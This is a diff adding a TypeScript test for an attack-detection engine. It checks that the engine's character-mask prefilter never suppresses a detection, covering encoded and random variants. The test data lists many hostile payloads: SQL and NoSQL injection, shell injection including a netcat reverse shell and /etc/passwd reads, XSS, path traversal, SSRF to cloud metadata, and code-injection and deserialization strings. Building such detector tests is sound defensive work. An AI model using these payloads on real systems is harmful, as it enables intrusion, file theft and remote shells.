@@ -1,0 +1,235 @@
+/**
+ * The engine skips a detector for a string whose character mask has none of the detector's `needs`
+ * bits (src/detectors/index.ts). That is only sound if the detector can never fire on such a string:
+ * for every detector and every string here, a detection implies `(charMask(s) & needs) !== 0`. The
+ * engine also runs detectors on the decoded form of encoded strings, so decoded forms are checked too.
+ *
+ * Strings: the shared ATTACKS and BENIGN tables, vectors per class written here (with evasions and
+ * encodings), and seeded random strings assembled from attack keywords and every character class,
+ * including bare keywords with no punctuation at all (mask 0: no detector may fire on them).
+ */
+import t, { type Test } from 'tap';
+import { C, charMask } from '../../src/charclass';
+import { deepDecode } from '../../src/decode';
+import { DETECTORS } from '../../src/detectors/index';
+import { ATTACKS, BENIGN } from '../helpers/tables';
+
+const VECTORS: Record<string, readonly string[]> = {
+  sqli: [
+    "' OR 1=1--",
+    "1' AND SLEEP(5)#",
+    '1 UNION ALL SELECT NULL,NULL,version()',
+    "'; EXEC xp_cmdshell 'dir'--",
+    '1;WAITFOR DELAY \'0:0:5\'',
+    "admin'/**/OR/**/'a'='a",
+    '1 AND extractvalue(1,concat(0x7e,user()))',
+    "1' || pg_sleep(5) --",
+    '-1 OR 2>1',
+    '1 or true',
+    "' or ''='",
+    'x\' UnIoN SeLeCt 1,2,3 FrOm dual-- -',
+    '1%27%20OR%20%271%27%3D%271',
+    '1 and 1=1',
+    'select',
+    'or',
+    'union select',
+  ],
+  nosqli: ['{"$gt": ""}', '{"$where": "sleep(100)"}', '[$ne]=1', "'; return true; var x='", '{"$regex": ".*"}', '$ne', 'true, $where: \'1 == 1\''],
+  shell: [
+    '; id',
+    '| nc -e /bin/sh 10.0.0.1 4444',
+    '&& ping -c 10 127.0.0.1',
+    '`uname -a`',
+    '$(whoami)',
+    'a\nwhoami',
+    '%0Aid',
+    ';${IFS}cat${IFS}/etc/passwd',
+    '| type C:\\Windows\\win.ini',
+    '& dir c:\\',
+    "powershell -enc SQBFAFgA",
+    '() { :; }; /bin/bash -c id',
+    'whoami',
+    'id',
+    'cat etc passwd',
+  ],
+  xss: [
+    '<svg onload=alert(1)>',
+    '<iframe src="javascript:alert(1)">',
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    '<body onload=alert`1`>',
+    'javascript:alert(1)',
+    'alert(1)',
+    'alert',
+    'onerror',
+  ],
+  'path-traversal': [
+    '../../../etc/shadow',
+    '..%2f..%2f..%2fetc%2fpasswd',
+    '..%252f..%252fetc%252fpasswd',
+    '..%c0%af..%c0%afetc/passwd',
+    '....//....//etc/passwd',
+    '..\\..\\boot.ini',
+    'file:///etc/passwd',
+    '/etc/passwd%00.png',
+    'C:\\Windows\\System32\\drivers\\etc\\hosts',
+    'etc/passwd',
+    'etcpasswd',
+    'passwd',
+    'bootini',
+  ],
+  ssrf: [
+    'http://169.254.169.254/latest/meta-data/',
+    'http://localhost:6379/',
+    'gopher://127.0.0.1:25/_HELO',
+    'http://0x7f000001/',
+    'http://017700000001/',
+    'http://[::1]/',
+    'http://metadata.google.internal/computeMetadata/v1/',
+    'dict://localhost:11211/stats',
+    'localhost/',
+    'LOCALHOST',
+    'localhost',
+    'ip6-localhost',
+    'ip6-loopback/',
+    '127.0.0.1',
+    '2130706433',
+    'metadata',
+  ],
+  'code-injection': [
+    "require('child_process').exec('id')",
+    'global.process.mainModule.constructor._load("child_process")',
+    "this.constructor.constructor('return process')()",
+    "import('fs').then(m=>m.readFileSync('/etc/passwd'))",
+    'globalThis["pro"+"cess"].exit()',
+    'Function("return this")()',
+    '{{constructor.constructor("return process")()}}',
+    '${7*7}',
+    'require',
+    'process',
+    'globalThis',
+  ],
+  'prototype-pollution': ['__proto__[isAdmin]=true', 'constructor.prototype.isAdmin', '{"__proto__":{"x":1}}', '__proto__', 'constructor', 'prototype'],
+  deserialization: [
+    '_$$ND_FUNC$$_function(){return 1}()',
+    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+    'O:8:"stdClass":0:{}',
+    '!!python/object/apply:os.system ["id"]',
+    'java.lang.Runtime',
+    'javax.script.ScriptEngineManager',
+    'java.lang.ProcessBuilder',
+    'ysoserial',
+    'rO0AB',
+    'aced0005',
+  ],
+};
+
+/** Deterministic PRNG (mulberry32), so a failure reproduces. */
+function rng(seed: number): () => number {
+  let a = seed >>> 0;
+  return () => {
+    a = (a + 0x6d2b79f5) >>> 0;
+    let x = a;
+    x = Math.imul(x ^ (x >>> 15), x | 1);
+    x ^= x + Math.imul(x ^ (x >>> 7), x | 61);
+    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
+  };
+}
+
+const WORDS = [
+  'select', 'union', 'or', 'and', 'sleep', 'benchmark', 'waitfor', 'delay', 'drop', 'table', 'from', 'where', 'null', 'true', '1', '0', 'x',
+  'etc', 'passwd', 'shadow', 'boot', 'ini', 'win', 'windows', 'system32', 'proc', 'self', 'environ',
+  'localhost', 'LOCALHOST', 'ip6', 'loopback', 'metadata', 'internal', '169', '254', '127', '0x7f000001', '2130706433',
+  'script', 'alert', 'onerror', 'onload', 'javascript', 'img', 'svg', 'src', 'href', 'iframe',
+  'cat', 'whoami', 'id', 'uname', 'nc', 'bash', 'sh', 'cmd', 'powershell', 'IFS', 'curl', 'wget',
+  'require', 'process', 'constructor', 'prototype', '__proto__', 'globalThis', 'Function', 'eval', 'import', 'child_process', 'mainModule',
+  'ne', 'gt', 'where', 'regex', 'java', 'lang', 'Runtime', 'javax', 'ProcessBuilder', 'rO0AB', 'ND_FUNC', 'python', 'object',
+];
+const SEPARATORS = [
+  '', '', '', ' ', "'", '"', '`', ';', '|', '&', '$', '<', '>', '(', ')', '{', '}', '[', ']', '/', '\\', '.', ':', '=', '#', '-', '\n', '%', '_',
+  '\u0000', '\u00e9', '*', '!', '^', '?', '@', '~', ',', '+', '\t', '%2f', '%27', '&#x3c;', '\\x3c', '..', '//', '${', '}}', '\u00a0',
+];
+
+function randomStrings(count: number, seed: number): string[] {
+  const next = rng(seed);
+  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(next() * xs.length)]!;
+  const out: string[] = [];
+  for (let i = 0; i < count; i++) {
+    const n = 1 + Math.floor(next() * 6);
+    // A third of the strings have no separators at all: letters and digits only, mask 0.
+    const bare = next() < 0.33;
+    let s = '';
+    for (let j = 0; j < n; j++) s += (bare ? '' : pick(SEPARATORS)) + pick(WORDS);
+    if (!bare && next() < 0.5) s += pick(SEPARATORS);
+    out.push(s);
+  }
+  return out;
+}
+
+/** Encoded variants the engine would decode before running detectors again. */
+function variants(s: string): string[] {
+  const out = [s, s.toUpperCase(), s.replace(/ /g, '/**/'), s.replace(/ /g, '\t')];
+  try {
+    out.push(encodeURIComponent(s), encodeURIComponent(encodeURIComponent(s)));
+  } catch {
+    // lone surrogates: nothing to encode
+  }
+  out.push([...s].map((c) => `&#${c.codePointAt(0)};`).join(''));
+  return out;
+}
+
+const BIT_NAMES = Object.entries(C) as Array<[string, number]>;
+const describeMask = (m: number): string => BIT_NAMES.filter(([, b]) => (m & b) !== 0).map(([k]) => k).join('|') || '(none: letters and digits only)';
+
+function check(t: Test, strings: Iterable<string>): void {
+  const seen = new Set<string>();
+  const violations: string[] = [];
+  let runs = 0;
+  for (const raw of strings) {
+    const decoded = deepDecode(raw);
+    for (const s of decoded === undefined ? [raw] : [raw, decoded]) {
+      if (seen.has(s)) continue;
+      seen.add(s);
+      const mask = charMask(s);
+      for (const entry of DETECTORS) {
+        if (entry.value === undefined) continue;
+        runs++;
+        const hit = entry.value(s);
+        // What the engine runs: detectors whose needs meet the mask; for letters-and-digits-only
+        // strings (mask 0) of 12 or more characters, the `alnum` detectors.
+        const reached = mask === 0 ? entry.alnum === true && s.length >= 12 : (mask & entry.needs) !== 0;
+        // Documented gap: a bare serialization magic number shorter than 12 letters and digits
+        // (`rO0AB`, `aced0005`) carries no object and is not run, to keep every short word cheap.
+        const bareMagic = mask === 0 && s.length < 12;
+        if (hit !== undefined && !reached && !bareMagic) {
+          violations.push(`${entry.class} fires ${hit.rule} (${hit.confidence}) on ${JSON.stringify(s)} whose mask is ${describeMask(mask)}`);
+        }
+      }
+    }
+  }
+  t.ok(runs > 0, `${seen.size} strings, ${runs} detector runs`);
+  t.same(violations, [], 'no detection is hidden by the needs mask');
+}
+
+t.test('every detector has a non-empty needs mask when it has a value detector', async (t) => {
+  for (const entry of DETECTORS) if (entry.value !== undefined) t.not(entry.needs, 0, entry.class);
+});
+
+t.test('shared ATTACKS and BENIGN tables and their encodings', async (t) => {
+  check(t, [...ATTACKS.map((a) => a.payload), ...BENIGN].flatMap(variants));
+});
+
+for (const [cls, list] of Object.entries(VECTORS)) {
+  t.test(`${cls} vectors and their encodings`, async (t) => {
+    check(t, list.flatMap(variants));
+  });
+}
+
+t.test('seeded random strings from attack words and every character class', async (t) => {
+  check(t, randomStrings(4000, 0x5eed));
+});
